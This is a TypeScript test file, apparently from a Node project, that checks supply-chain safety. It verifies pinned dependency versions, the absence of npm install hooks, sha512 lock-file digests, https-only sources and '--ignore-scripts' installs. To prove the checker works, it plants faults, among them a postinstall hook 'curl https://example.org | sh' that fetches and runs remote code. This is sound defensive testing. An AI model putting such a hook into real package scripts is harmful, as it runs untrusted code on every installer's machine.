import { readFileSync } from 'node:fs'
import path from 'node:path'
import t from 'tap'
import { z } from 'zod'

const root = process.cwd()
const read = (file: string) => readFileSync(path.join(root, file), 'utf8')

const versions = z.record(z.string(), z.string()).default({})
const manifest = z.object({ dependencies: versions, devDependencies: versions, scripts: versions })
const lock = z.object({
  lockfileVersion: z.literal(3),
  packages: z.record(
    z.string(),
    z.object({
      version: z.string().optional(),
      resolved: z.string().optional(),
      integrity: z.string().optional(),
      link: z.boolean().optional(),
      dependencies: versions,
      devDependencies: versions,
    }),
  ),
})
type Manifest = z.output<typeof manifest>
type Lock = z.output<typeof lock>

const EXACT = /^\d+\.\d+\.\d+(-[0-9A-Za-z.-]+)?$/
/** Run by npm around an install, in every clone. */
const hooks = ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish']

/** What is not as it should be in how packages come here. */
function faults({ dependencies, devDependencies, scripts }: Manifest, { packages }: Lock): string[] {
  const { '': own, ...others } = packages
  const asked = { ...dependencies, ...devDependencies }
  return [
    ...Object.entries(asked)
      .filter(([, version]) => !EXACT.test(version))
      .map(([name]) => `${name} is not pinned`),
    ...hooks.filter(hook => scripts[hook] !== undefined).map(hook => `a script runs at ${hook}`),
    ...Object.entries(asked)
      .filter(([name, version]) => (own?.dependencies[name] ?? own?.devDependencies[name]) !== version)
      .map(([name]) => `${name} is another one in the lock file`),
    ...Object.entries(others).flatMap(([folder, { version, resolved, integrity, link }]) => [
      ...(link || !EXACT.test(version ?? '') ? [`${folder} has no version`] : []),
      ...(/^sha512-[A-Za-z0-9+/]{86}==$/.test(integrity ?? '') ? [] : [`${folder} is taken without its digest`]),
      ...(resolved === undefined || resolved.startsWith('https://') ? [] : [`${folder} comes from ${resolved}`]),
    ]),
  ]
}

const own = manifest.parse(JSON.parse(read('package.json')))
const locked = lock.parse(JSON.parse(read('package-lock.json')))

t.test('every package is the one of the lock file, by its digest', async t => {
  t.ok(Object.keys(locked.packages).length > 300)
  t.same(faults(own, locked), [])
})

t.test('what is planted is found', async t => {
  const [folder = '', first] = Object.entries(locked.packages).find(([name]) => name !== '') ?? []
  const planted = (more: object): Lock => ({
    ...locked,
    packages: { ...locked.packages, [folder]: { ...first, ...more } as Lock['packages'][string] },
  })
  const scripted = { ...own, scripts: { ...own.scripts, postinstall: 'curl https://example.org | sh' } }
  const floating = { ...own, dependencies: { ...own.dependencies, fastify: '^5.0.0' } }
  const added = { ...own, dependencies: { ...own.dependencies, 'left-pad': '1.0.0' } }
  t.match(faults(scripted, locked), [/postinstall/])
  t.match(faults(floating, locked), [/fastify is not pinned/, /fastify is another/])
  t.match(faults(added, locked), [/left-pad is another/])
  t.match(faults(own, planted({ integrity: undefined })), [/without its digest/])
  t.match(faults(own, planted({ integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' })), [/without its digest/])
  t.match(faults(own, planted({ resolved: 'git+ssh://git@example.org/x.git' })), [/comes from/])
  t.match(faults(own, planted({ resolved: 'http://example.org/x.tgz' })), [/comes from/])
  t.match(faults(own, planted({ version: 'latest' })), [/no version/])
})

t.test('an install runs nothing that a package brings', async t => {
  const installs = [...read('Dockerfile').matchAll(/npm (?:ci|install|i)\b.*/g)].map(([line]) => line)
  t.ok(installs.length > 0)
  for (const line of installs) t.match(line, /\bci\b.*--ignore-scripts/)
  const first = read('bin/install.mjs')
  t.match(first, /'ci', \.\.\.flags/)
  t.match(first, /flags = \[[^\]]*'--ignore-scripts'/)
})
